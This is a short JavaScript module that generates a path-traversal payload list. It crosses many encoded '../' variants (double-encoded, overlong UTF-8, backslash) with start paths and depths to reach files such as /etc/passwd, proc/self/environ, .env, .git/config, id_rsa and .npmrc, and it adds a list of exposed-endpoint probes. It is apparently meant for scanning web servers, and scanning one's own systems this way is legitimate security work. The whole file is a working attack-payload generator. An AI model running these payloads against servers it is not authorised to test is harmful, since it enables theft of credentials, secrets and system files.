const UPS = [
  "../../..",
  "..%2f",
  "%2e%2e/",
  "%2e%2e%2f",
  "..%5c",
  "%252e%252e%252f",
  "..%252f",
  "....//",
  ".%2e/",
  "..%c0%af",
  "..;/",
  "%c0%ae%c0%ae/",
];
const STARTS = ["", "assets/", "assets/%2e/", "api/", "caixa-de-saida/", "icon.svg/"];
const FILES = [
  "etc/passwd",
  "etc/hosts",
  "proc/self/environ",
  "package.json",
  ".env",
  ".git/config",
  "dist/server/start.js",
  "dist/server/start.js.map",
  "data/postgres/PG_VERSION",
];
const DEPTHS = [1, 2, 3, 6, 10];
const PLAIN = [
  ".env",
  ".env.local",
  ".git/HEAD",
  ".git/config",
  ".npmrc",
  "package-lock.json",
  "start.js",
  "start.js.map",
  "server/start.js",
  "web/index.html",
  "assets/",
  "backup.zip",
  "dump.sql",
  "id_rsa",
  "server-status",
  "actuator/env",
  "debug/pprof",
  "swagger.json",
  "phpinfo.php",
  "wp-login.php",
];

/** Path traversals that have worked on other servers, from every public path to files worth reading. */
export const traversals = () => [
  ...PLAIN,
  ...STARTS.flatMap((start) =>
    UPS.flatMap((up) => DEPTHS.flatMap((depth) => FILES.map((file) => `${start}${up.repeat(depth)}${file}`))),
  ),
];
